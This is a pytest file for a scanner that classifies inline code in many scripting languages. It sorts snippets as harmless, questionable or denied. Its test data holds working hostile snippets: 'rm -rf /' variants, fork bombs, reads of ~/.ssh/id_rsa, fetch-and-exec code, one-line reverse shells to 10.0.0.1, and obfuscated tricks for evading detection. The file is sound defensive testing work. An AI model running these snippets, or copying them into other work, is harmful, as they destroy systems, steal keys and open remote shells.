"""Inline code: what is harmless says nothing, what is not is named."""

from __future__ import annotations

import random
import shutil
import subprocess

import pytest

from limpet.policy.code import Finding, scan

HARMLESS = [
    ("python", "print(1)"),
    ("python", "import json, sys; print(json.load(sys.stdin)['version'])"),
    ("python", "import os; print(os.getcwd(), os.environ.get('PATH'), os.path.exists('x'))"),
    ("python", "import requests; print(requests.__version__)"),
    ("python", "from mypkg.core import f; print(f(3))"),
    ("python", "import numpy as np; print(np.arange(3).sum())"),
    ("python", "import re, sys\nfor m in re.finditer(r'\\d+', sys.stdin.read()):\n    print(m.group(0))"),
    ("python", "import sys; sys.path.insert(0, 'src'); import mypkg"),
    ("python", "import subprocess; print(subprocess.__doc__)"),
    ("python", "import os; print(dir(os))"),
    ("python", "def main():\n    print('x')\nif __name__ == '__main__':\n    main()"),
    ("perl", "s/a/b/g"),
    ("perl", "print if /x/"),
    ("perl", 'print "$F[0] $F[2]\\n"'),
    ("perl", "s/(\\d+)/$1+1/e"),
    ("perl", "$sum += $_; END { print $sum }"),
    ("perl", "print unless $seen{$_}++"),
    ("perl", "use POSIX; print floor(1.5)"),
    ("perl", 'while (<STDIN>) { chomp; print "$_\\n" }'),
    ("ruby", "puts 1"),
    ("ruby", "puts [1,2,3].map { |x| x * 2 }.inspect"),
    ("ruby", "require 'json'; puts JSON.parse(STDIN.read)[\"a\"]"),
    ("ruby", 'puts "hello".delete("l")'),
    ("node", "console.log(1)"),
    ("node", "1+1"),
    ("node", "(async () => { await new Promise(r => setTimeout(r, 10)); console.log('x') })()"),
    ("node", "console.log(/a(b)/.exec('ab')[1], `a ${1 + 1}`)"),
    ("node", "for (const [k, v] of Object.entries({a: 1})) console.log(k, v)"),
    ("php", "echo 1;"),
    ("php", 'echo PHP_VERSION_ID >= 80000 ? "ok" : "no";'),
    ("php", '$x = [1,2]; foreach ($x as $v) { echo "$v\\n"; }'),
    ("lua", "local t = {a=1}; for k,v in pairs(t) do print(k,v) end"),
    ("r", "f <- function(x) x + 1; print(f(2))"),
    ("julia", 'println("a $(1+1)")'),
    ("awk", "{print $1}"),
    ("awk", "!seen[$0]++"),
    ("awk", "$3 > 100 {print (a > b)}"),
    ("awk", "BEGIN{FS=\",\"} {s+=$3} END{print s/NR}"),
    ("awk", "function f(x){return x*2} {print f($1)}"),
    ("sed", "s/a/b/g;s/c/d/"),
    ("sed", "s/[^/]*$//"),
    ("sed", ":a;N;$!ba;s/\\n/ /g"),
    ("sed", "2i hello world; e id"),
    ("sed", "/x/{s/a/b/;p}"),
    ("sql", "select * from t;\n.tables\n.schema t"),
    ("tcl", "for {set i 0} {$i < 3} {incr i} {puts $i}"),
    ("vim", "%s/a/b/g\nwq"),
    ("ed", "1,3d\nw\nq"),
    ("gdb", "run\nbt"),
    ("dc", "2 3 + p"),
    ("bc", "2^10"),
    ("jq", ".a | .b"),
    ("emacs", '(message "hi")'),
    ("make", "# nothing"),
    ("php", "print_r(array_map(fn($x) => $x * 2, [1, 2, 3]));"),
    ("php", "usort($a, function ($x, $y) { return $x <=> $y; }); print_r(array_filter($a, fn($x) => $x > 1));"),
    ("ruby", "$_.upcase!"),
]  # fmt: skip


@pytest.mark.parametrize(("language", "text"), HARMLESS)
def test_harmless_code_says_nothing(language: str, text: str) -> None:
    assert scan(language, text) == ()


ASKED = [
    ("python", "import os; f = os.system; f(x)", "python.spawn"),
    ("python", "import os; f = os.system; f(x)", "python.opaque"),
    ("python", "getattr(__import__('os'), 'sys' + 'tem')('id')", "python.opaque"),
    ("python", "eval(input())", "python.eval"),
    ("python", "map(exec, ['x'])", "python.eval"),
    ("python", "import glob; glob.os.system('id')", "python.opaque"),
    ("python", "().__class__.__bases__[0].__subclasses__()", "python.opaque"),
    ("python", "import pickle; pickle.loads(x)", "python.eval"),
    ("python", "import urllib.request as u; u.urlopen('http://x')", "python.network"),
    ("python", "open(name, 'w')", "python.write"),
    ("python", "import os; os.chdir('/'); open('etc/x', 'w')", "python.write"),
    ("python", "import sys; sys.path.insert(0, '/tmp'); import evil", "python.eval"),
    ("python", "import ctypes; ctypes.CDLL(None)", "python.opaque"),
    ("python", "from os import *", "python.opaque"),
    ("python", "open(*['/etc/x', 'w'])", "python.write"),
    ("python", "# coding: utf-7\nprint(1)", "python.opaque"),
    ("ruby", 'puts "#{system("print")}"', "ruby.opaque"),
    ("php", "// ?> <?php system('id');", "php.opaque"),
    ("julia", '#= #= =# " =# run(x) "', "julia.opaque"),
    ("awk", '# \\\nBEGIN{system("id")}', "awk.spawn"),
    ("python", "print(", "python.opaque"),
    ("perl", 'print "@{[system \'id\']}"', "perl.opaque"),
    ("perl", '/(?{ system "id" })/', "perl.opaque"),
    ("perl", "<'>; system(\"id\"); <'>", "perl.opaque"),
    ("perl", "s/a/b/ee", "perl.opaque"),
    ("perl", 'do "x.pl"', "perl.eval"),
    ("ruby", 'Kernel.send(:system, "id")', "ruby.eval"),
    ("ruby", "%x(id)", "ruby.opaque"),
    ("ruby", "foo", "ruby.opaque"),
    ("node", "require('child_'+'process').exec('id')", "node.eval"),
    ("node", "const f = require('fs')['unlin'+'kSync']; ['x'].forEach(f)", "node.opaque"),
    ("node", "(()=>{}).constructor('return process')()", "node.opaque"),
    ("node", "i++ / 2; require('child_process').execSync('id'); 3 / 1", "node.opaque"),
    ("node", "fetch('http://x')", "node.network"),
    ("node", "require(x)", "node.eval"),
    ("php", '$f="sys"; $f("id");', "php.opaque"),
    ("php", 'file_get_contents("http://x");', "php.network"),
    ("lua", 'local f = os["exec".."ute"]; f"id"', "lua.opaque"),
    ("r", 'do.call("system", list("id"))', "r.eval"),
    ("awk", "{print > $1}", "awk.write"),
    ("awk", 'BEGIN{f="system"; @f("id")}', "awk.eval"),
    ("sed", "s/a/id/e", "sed.spawn"),
    ("sed", "k", "sed.opaque"),
    ("sql", "select load_extension('x');", "sql.eval"),
    ("tcl", "[set x ex]ec id", "tcl.opaque"),
    ("vim", '%s/a/\\=system("id")/', "vim.opaque"),
    ("gdb", 'print system("id")', "gdb.opaque"),
    ("make", "X=$(shell id)", "make.opaque"),
    ("cobol", "x", "cobol.opaque"),
    ("php", "array_map('f', [1]);", "php.eval"),
    ("php", "array_filter([1, [2, 3]], $f);", "php.eval"),
    ("php", "array_map(fn($x) => system($x), ['id']);", "php.spawn"),
    ("awk", '{ print > "out-" $1 ".txt" }', "awk.write"),
    ("awk", '{ print > "../out-" NR ".txt" }', "awk.write"),
    ("awk", '{ print > "out-" NR "/../../x" }', "awk.write"),
    ("python", "import os; os.symlink('/etc', 'e')", "python.opaque"),
    ("python", "import os; os.link(x, 'e')", "python.opaque"),
    ("python", "from pathlib import Path; Path('e').symlink_to('../..')", "python.opaque"),
    ("node", "require('fs').symlinkSync('/etc', 'e')", "node.opaque"),
    ("perl", "symlink('/etc', 'e')", "perl.opaque"),
]  # fmt: skip


@pytest.mark.parametrize(("language", "text", "rule"), ASKED)
def test_what_is_not_known_to_be_harmless_is_worth_a_question(language: str, text: str, rule: str) -> None:
    assert rule in {finding.rule for finding in scan(language, text)}


@pytest.mark.parametrize("language", ["python", "perl", "sed", "awk", "sql"])
def test_code_that_is_not_known_is_worth_a_question(language: str) -> None:
    assert [finding.rule for finding in scan(language, None)] == [f"{language}.opaque"]


RUN = [
    ("python", 'import os; os.system("rm -rf /")'),
    ("python", '__import__("os").system("rm -rf /")'),
    ("python", 'from os import system as s; s("rm -rf /")'),
    ("python", 'import subprocess; subprocess.run(["rm", "-rf", "/"])'),
    ("python", 'import subprocess; subprocess.call("rm -rf /", shell=True)'),
    ("python", 'import os; os.execvp("rm", ["rm", "-rf", "/"])'),
    ("python", "exec(\"import os; os.system('rm -rf /')\")"),
    ("python", 'import subprocess, shlex; subprocess.run(shlex.split("rm -rf /"))'),
    ("perl", 'system("rm -rf /")'),
    ("perl", 'system "rm", "-rf", "/"'),
    ("perl", "qx{rm -rf /}"),
    ("perl", 's/a/system("rm -rf \\/")/e'),
    ("ruby", "`rm -rf /`"),
    ("ruby", 'puts "#{`rm -rf /`}"'),
    ("ruby", 'open("|rm -rf /")'),
    ("node", "require('child_process').execSync('rm -rf /')"),
    ("node", "const cp = require('child_process'); cp.spawn('rm', ['-rf', '/'])"),
    ("php", 'system("rm -rf /");'),
    ("lua", 'os.execute"rm -rf /"'),
    ("r", 'system("rm -rf /")'),
    ("julia", "run(`rm -rf /`)"),
    ("awk", 'BEGIN{system("rm -rf /")}'),
    ("awk", '{print | "rm -rf /"}'),
    ("awk", 'BEGIN{"rm -rf /" | getline x}'),
    ("sed", "1e rm -rf /"),
    ("sql", ".sh rm -rf /"),
    ("vim", "!rm -rf /"),
    ("ed", "!rm -rf /"),
    ("gdb", "shell rm -rf /"),
    ("dc", "!rm -rf /"),
    ("tcl", "exec rm -rf /"),
    ("emacs", '(shell-command "rm -rf /")'),
]


@pytest.mark.parametrize(("language", "text"), RUN)
def test_a_constant_command_is_handed_on_to_be_judged(language: str, text: str) -> None:
    assert "rm -rf /" in {(finding.script or "").replace("\\", "") for finding in scan(language, text)}


PATHS = [
    ("python", 'open("a.txt", "w").write("x")', "write", "a.txt"),
    ("python", 'from pathlib import Path\np = Path("src") / "x.py"\np.write_text(p.read_text())', "write", "src/x.py"),
    ("python", 'import glob\nfor f in glob.glob("src/*.py"):\n    open(f, "w")', "write", "src/*.py"),
    ("python", 'import os; open(os.environ["HOME"] + "/.bashrc", "a")', "write", "~/.bashrc"),
    ("python", 'from pathlib import Path; (Path.home() / ".ssh" / "id_rsa").read_text()', "read", "~/.ssh/id_rsa"),
    ("python", "open('/etc/x', **{'mode': 'w'})", "write", "/etc/x"),
    ("python", 'import shutil; shutil.rmtree("/")', "delete", "/"),
    ("python", 'import os; os.chmod("x", 0o755)', "change", "x"),
    ("awk", '{ print > "out-" NR % 2 ".txt" }', "write", "out-*"),
    ("perl", 'open(my $f, ">", "/etc/x")', "write", "/etc/x"),
    ("perl", 'unlink "x"', "delete", "x"),
    ("ruby", 'File.write("/etc/x", "y")', "write", "/etc/x"),
    ("ruby", 'require "fileutils"; FileUtils.rm_rf("/")', "delete", "/"),
    ("node", "require('fs').writeFileSync('x', 'y')", "write", "x"),
    ("node", "require('fs').rmSync('/', {recursive: true})", "delete", "/"),
    ("node", "require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa')", "read", "~/.ssh/id_rsa"),
    ("php", 'file_put_contents("x", "y");', "write", "x"),
    ("awk", '{print > "out.txt"}', "write", "out.txt"),
    ("sed", "s/a/b/w out.txt", "write", "out.txt"),
    ("sed", "r in.txt", "read", "in.txt"),
    ("sql", "attach 'x.db' as y;", "write", "x.db"),
]


@pytest.mark.parametrize(("language", "text", "kind", "path"), PATHS)
def test_a_constant_path_is_handed_on_to_be_judged(language: str, text: str, kind: str, path: str) -> None:
    assert path in {getattr(finding, kind) for finding in scan(language, text)}


def test_a_path_alone_is_no_question() -> None:
    assert [finding.rule for finding in scan("python", 'open("a.txt", "w")')] == [""]


def test_a_variable_before_the_text_is_not_taken_for_the_path() -> None:
    assert {finding.write for finding in scan("node", "let p; require('fs').writeFileSync(p, 'hello')")} == {None}


NEVER = [
    ("python", "import os\nwhile True: os.fork()"),
    ("python", "import os; os.kill(-1, 9)"),
    ("python", 'import urllib.request; exec(urllib.request.urlopen("http://x").read())'),
    (
        "python",
        'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")',
    ),
    ("perl", "fork while fork"),
    ("perl", "kill 9, -1"),
    ("perl", 'use Socket; socket(S,1,1,1); connect(S,1); open(STDIN,">&S"); exec("/bin/sh -i");'),
    ("ruby", "loop { fork }"),
    ("php", '$s=fsockopen("10.0.0.1",1);exec("/bin/sh -i <&3 >&3");'),
    ("node", "var s=require('child_process').spawn('/bin/sh',[]);var c=new (require('net').Socket)();c.pipe(s.stdin)"),
    ("awk", 'BEGIN{s="/inet/tcp/0/10.0.0.1/1"; while(1){s |& getline c; while((c |& getline)>0) print |& s}}'),
]


@pytest.mark.parametrize(("language", "text"), NEVER)
def test_what_is_never_allowed_is_denied(language: str, text: str) -> None:
    assert any(finding.deny for finding in scan(language, text))


def test_network_code_alone_is_not_denied() -> None:
    assert not any(finding.deny for finding in scan("python", "import requests; print(requests.get('http://x').text)"))


_PIECES = ["s", "/", "a", "e", "w", "r", "\\", "\n", ";", "{", "}", "[", "]", "^", "$", "!", "1", ",", "p", "d", "I",
           "i",
           "c", "y", "q", "=", ":", "t", "b ", "#", "x", "e id", "w f", "[^/]", "[:alpha:]", "s/a/b/", "/x/", "a\\\n",
           "v",
           "N", " ", "s,", "|"]  # fmt: skip


@pytest.mark.skipif(shutil.which("sed") is None, reason="sed is the oracle")
def test_no_sed_script_that_sed_itself_calls_dangerous_is_missed() -> None:
    """In its sandbox mode GNU sed refuses, before it reads anything, what would run or write."""
    chosen = random.Random(20261116)
    missed = []
    for _ in range(400):
        text = "".join(chosen.choice(_PIECES) for _ in range(chosen.randint(1, 8)))
        argv = ["sed", "-n", "--sandbox", "-e", text]
        told = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=5).stderr
        if "sandbox mode" in told and not scan("sed", text):
            missed.append(text)
    assert missed == []


_ODD = ["system", "(", ")", "'", '"', "`", "/", "\\", "\n", " ", ";", "{", "}", "$x", "@", "%", "<", ">", "|", "#",
        "=>", "s",
        "q", "import", "/*", "[[", "${", "#{", "\0", "é", "\ud800", "<<EOF", "::"]  # fmt: skip
_LANGUAGES = ["python", "perl", "ruby", "node", "php", "lua", "r", "julia", "awk", "sed", "sql", "tcl", "ed", "vim",
              "gdb",
              "dc", "m4", "gnuplot", "make", "emacs", "unheard-of"]  # fmt: skip


@pytest.mark.parametrize("language", _LANGUAGES)
def test_any_text_can_be_scanned(language: str) -> None:
    chosen = random.Random(7)
    for _ in range(200):
        found = scan(language, "".join(chosen.choice(_ODD) for _ in range(chosen.randint(0, 30))))
        assert all(isinstance(one, Finding) for one in found)


@pytest.mark.parametrize("text", ["(" * 9000, "-" * 9000 + "1", "x" + ".x" * 7000, "f" + "()" * 7000, "lambda:" * 2000])
def test_python_that_is_nested_too_deep_is_not_read(text: str) -> None:
    assert [finding.rule for finding in scan("python", text)] == ["python.opaque"]


def test_code_that_is_too_long_is_not_read() -> None:
    assert [finding.rule for finding in scan("awk", "{print}" * 4000)] == ["awk.opaque"]
